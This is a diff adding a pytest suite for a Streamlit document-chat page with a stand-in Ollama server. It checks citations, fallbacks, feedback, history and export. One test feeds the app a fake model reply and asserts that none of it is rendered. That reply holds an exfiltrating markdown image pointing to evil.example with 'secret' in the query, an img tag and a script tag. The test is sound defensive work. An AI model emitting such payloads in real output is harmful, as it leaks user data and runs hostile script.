@@ -1,0 +1,276 @@
+"""The chat page through Streamlit's AppTest: the sample library, the real answer module,
+and a stand-in Ollama over real HTTP whose replies quote the sources it was given."""
+from __future__ import annotations
+
+import re
+import shutil
+
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from core.history import History
+from core.samples import sample_files
+from core.settings import load_settings
+from tests.conftest import ROOT
+from tests.ollama_standin import OllamaStandin
+
+RETURNS_Q = "Can a customer return a bike after 45 days?"
+SOURCE_RE = re.compile(r'<source n="(\d+)" file="([^"]*)"([^>]*)>\n(.*?)\n</source>', re.S)
+
+
+@pytest.fixture(autouse=True)
+def _fresh_cache():
+    import streamlit as st
+
+    st.cache_resource.clear()
+    st.cache_data.clear()
+    yield
+    st.cache_resource.clear()
+    st.cache_data.clear()
+
+
+@pytest.fixture(scope="module")
+def samples_dir(tmp_path_factory):
+    """The sample documents ingested once; each test gets its own copy of the data folder."""
+    from core.library import Library
+
+    path = tmp_path_factory.mktemp("samples") / "data"
+    Library(load_settings(environ={}, data_dir=path)).ingest_many([(p.name, p.read_bytes()) for p in sample_files()])
+    return path
+
+
+@pytest.fixture
+def library(samples_dir, data_dir):
+    shutil.copytree(samples_dir, data_dir)
+    return data_dir
+
+
+def sources_in(request: dict) -> list[dict]:
+    """The numbered sources the answer module put in the prompt."""
+    return [{"n": int(n), "file": f, "where": w, "text": t}
+            for n, f, w, t in SOURCE_RE.findall(request["messages"][-1]["content"])]
+
+
+def quote_first(request: dict) -> list[str]:
+    """Quote the first sentence of source 1 and cite it, in small pieces."""
+    first = sources_in(request)[0]["text"]
+    sentence = re.split(r"(?<=[.!?])\s+", " ".join(first.split()))[0].rstrip(".")
+    text = f"{sentence} [1]."
+    return [text[i:i + 7] for i in range(0, len(text), 7)]
+
+
+@pytest.fixture
+def ollama(monkeypatch):
+    with OllamaStandin(default_reply=quote_first) as standin:
+        monkeypatch.setenv("OLLAMA_HOST", standin.host)
+        yield standin
+
+
+def page() -> AppTest:
+    return AppTest.from_file(str(ROOT / "pages" / "chat.py"), default_timeout=60)
+
+
+def ask(at: AppTest, question: str) -> AppTest:
+    at.chat_input(key="chat_input").set_value(question).run()
+    assert not at.exception, at.exception
+    return at
+
+
+def markdown(at: AppTest) -> str:
+    return "\n".join(str(m.value) for m in at.markdown)
+
+
+def texts(at: AppTest) -> str:
+    parts = [m.value for m in at.markdown] + [i.value for i in at.info] + [w.value for w in at.warning]
+    parts += [c.value for c in at.caption] + [s.value for s in at.success] + [e.value for e in at.error]
+    parts += [h.value for h in at.html] + [s.value for s in at.subheader]
+    return "\n".join(str(p) for p in parts)
+
+
+def md(text: str) -> str:
+    return "".join("\\" + ch if ch in "\\`*_$~[]<>|#!:" else ch for ch in text)
+
+
+def history() -> History:
+    return History(load_settings().db_path)
+
+
+def last_answer() -> dict:
+    h = history()
+    conv = h.conversations()[0]
+    return [m for m in h.messages(conv["id"]) if m["role"] == "assistant"][-1]
+
+
+# -- the journey --------------------------------------------------------------------------------
+
+
+def test_empty_library_points_to_the_documents_page():
+    at = page().run()
+    assert not at.exception
+    assert "Documents page" in " ".join(i.value for i in at.info)
+    assert not at.chat_input
+
+
+def test_answer_shows_a_card_for_the_cited_page_and_opens_it(library, ollama):
+    at = ask(page().run(), RETURNS_Q)
+    msg = last_answer()
+    assert msg["meta"]["mode"] == "llm" and msg["meta"]["found"] is True
+    assert msg["meta"]["question"] == RETURNS_Q and msg["meta"]["query"]
+    assert [c["n"] for c in msg["citations"]] == [1]
+    cited = msg["citations"][0]
+    given = sources_in(ollama.bodies("/api/chat")[-1])
+    assert cited["file"] == given[0]["file"]
+    # the answer, with its marker as a chip that jumps to the card
+    out = markdown(at)
+    assert f":green-badge[1]](#gw-src-{msg['id']}-1)" in out
+    # one card, for the cited source only, with its place
+    assert f"**[1]** {md(cited['file'])} · page {cited['page']}" in out
+    assert "**[2]**" not in out
+    assert "<mark>" in out
+    # the sources it read but didn't cite are tucked away
+    if len(given) > 1:
+        assert any("not cited" in e.label for e in at.expander)
+    # open the page: the dialog shows the whole page and offers the original
+    at.button(key=f"chat_page_{msg['id']}_1").click().run()
+    assert not at.exception
+    from core.library import Library
+
+    page_text = Library(load_settings()).page_text(cited["file"], cited["page"])
+    first_words = " ".join(page_text.split()[:3])
+    shown = " ".join(h.value for h in at.html)
+    assert re.sub(r"<[^>]+>", "", first_words) in re.sub(r"<[^>]+>", "", shown)
+    assert any(b.label == f"Download {cited['file']}" for b in at.download_button)
+    assert at.download_button(key="chat_export")
+
+
+def test_a_citation_to_an_unknown_number_gets_no_card(library, ollama):
+    ollama.enqueue_chat(["Customers can return bikes ", "within 30 days [42]."])
+    at = ask(page().run(), RETURNS_Q)
+    msg = last_answer()
+    assert msg["citations"] == [] and msg["meta"]["no_citations"] is True
+    out = markdown(at)
+    assert "[42]" not in out and "**[" not in out
+    assert "This answer cites no source; check it against your documents." in " ".join(w.value for w in at.warning)
+
+
+def test_ollama_down_gives_the_notice_and_the_passages(library):
+    at = ask(page().run(), RETURNS_Q)  # conftest: OLLAMA_HOST is a dead port
+    msg = last_answer()
+    assert msg["meta"]["mode"] == "search_only"
+    info = " ".join(i.value for i in at.info)
+    assert "Ollama isn't running, so here are the passages" in info
+    out = markdown(at)
+    assert "Returns" in out and "<mark>" in out
+    assert "🔴 Ollama isn't running" in texts(at)  # said before you even ask, too
+
+
+def test_nothing_relevant_gets_the_honest_reply(library, ollama):
+    at = ask(page().run(), "What is the airspeed velocity of an unladen swallow?")
+    assert "I couldn't find this in your documents." in markdown(at)
+    assert ollama.calls("/api/chat") == []  # the model was not asked to guess
+    msg = last_answer()
+    assert msg["meta"]["found"] is False and msg["citations"] == []
+    assert any("closest passages" in e.label for e in at.expander)
+
+
+def test_the_model_saying_the_documents_dont_say_is_not_found(library, ollama):
+    ollama.enqueue_chat(["The documents ", "don't say."])
+    at = ask(page().run(), RETURNS_Q)
+    assert "I couldn't find this in your documents." in markdown(at)
+    assert last_answer()["meta"]["found"] is False
+
+
+def test_images_links_and_html_from_the_model_are_never_rendered(library, ollama):
+    ollama.enqueue_chat([
+        "Bikes can be returned within 30 days [1]. ![receipt](https://evil.example/x.png?d=",
+        "secret) See [the policy](https://evil.example/p) or <img src='https://evil.example/y.png'> ",
+        "<script>alert(1)</script> https://evil.example/z",
+    ])
+    at = ask(page().run(), RETURNS_Q)
+    rendered = [str(m.value) for m in at.markdown] + [str(w.value) for w in at.warning] + \
+               [str(c.value) for c in at.caption] + [str(h.value) for h in at.html] + [str(i.value) for i in at.info]
+    joined = "\n".join(rendered)
+    assert "Bikes can be returned within 30 days" in joined
+    assert "![" not in joined and "<img" not in joined.lower() and "<script" not in joined.lower()
+    assert "](https://" not in joined and "(https://evil" not in joined
+    assert "[image not shown: receipt]" in joined
+    assert not at.image
+
+
+def test_feedback_is_saved_with_a_note(library, ollama):
+    at = ask(page().run(), RETURNS_Q)
+    mid = last_answer()["id"]
+    at.feedback(key=f"chat_fb_{mid}").set_value(1).run()
+    assert not at.exception
+    assert history().messages(last_answer()["conversation_id"])[-1]["feedback"] == {"rating": 1, "comment": ""}
+    at.text_input(key=f"chat_fb_note_{mid}").input("Exactly what the policy says").run()
+    assert last_answer()["feedback"] == {"rating": 1, "comment": "Exactly what the policy says"}
+    at.feedback(key=f"chat_fb_{mid}").set_value(0).run()
+    assert last_answer()["feedback"] == {"rating": -1, "comment": "Exactly what the policy says"}
+    # a new visit shows the rating that was given
+    again = page().run()
+    assert again.feedback(key=f"chat_fb_{mid}").value == 0
+    assert history().usage_stats()["disliked"] == 1
+
+
+def test_conversation_survives_a_restart_and_feeds_follow_ups(library, ollama):
+    ask(page().run(), RETURNS_Q)
+    import streamlit as st
+
+    st.cache_resource.clear()
+    at = page().run()  # a new session: opens the most recent conversation
+    assert not at.exception
+    assert at.subheader[0].value == md(RETURNS_Q)
+    roles = [m.name for m in at.chat_message]
+    assert roles == ["user", "assistant"]
+    assert RETURNS_Q in markdown(at)
+    ask(at, "And for the Pro model?")
+    sent = ollama.bodies("/api/chat")[-1]["messages"]
+    assert any(m["role"] == "user" and m["content"] == RETURNS_Q for m in sent)  # the earlier turn went along
+    conv = history().conversations()
+    assert len(conv) == 1 and conv[0]["messages"] == 4
+
+
+def test_new_rename_and_delete(library, ollama):
+    at = ask(page().run(), RETURNS_Q)
+    at.button(key="chat_new").click().run()
+    assert at.subheader[0].value == "New conversation"
+    ask(at, "How long is the warranty on a frame?")
+    assert len(history().conversations()) == 2
+    # rename the current one
+    at.text_input(key="chat_rename_title").input("Frame warranty").run()
+    at.button(key="chat_rename").click().run()
+    assert not at.exception
+    titles = [c["title"] for c in history().conversations()]
+    assert "Frame warranty" in titles
+    assert at.subheader[0].value == "Frame warranty"
+    # delete needs a confirmation
+    at.button(key="chat_delete").click().run()
+    assert any("will be deleted" in m.value for m in at.markdown)
+    assert len(history().conversations()) == 2
+    at.button(key="chat_delete_confirm").click().run()
+    assert not at.exception
+    assert [c["title"] for c in history().conversations()] == [RETURNS_Q[:60]]
+    assert at.subheader[0].value == "New conversation"
+    # the other conversation is one click away in the list
+    other = history().conversations()[0]["id"]
+    at.button(key=f"chat_conv_{other}").click().run()
+    assert at.subheader[0].value == md(RETURNS_Q)
+
+
+def test_scope_and_strict_mode_reach_the_answer(library, ollama):
+    at = page().run()
+    assert at.toggle(key="chat_strict").value is True
+    at.multiselect(key="chat_scope").select("Price_List_2026.docx").run()
+    at.toggle(key="chat_strict").set_value(False).run()
+    ask(at, "How much does a basic tune-up cost?")
+    body = ollama.bodies("/api/chat")[-1]
+    assert {s["file"] for s in sources_in(body)} == {"Price_List_2026.docx"}
+    assert "general knowledge" in body["messages"][0]["content"].lower()
+
+
+def test_export_is_offered_and_holds_the_sources(library, ollama):
+    at = ask(page().run(), RETURNS_Q)
+    assert at.download_button(key="chat_export").label == "Export"
+    text = history().export_markdown(last_answer()["conversation_id"])
+    assert "**Question:** " + RETURNS_Q in text and "[1]" in text
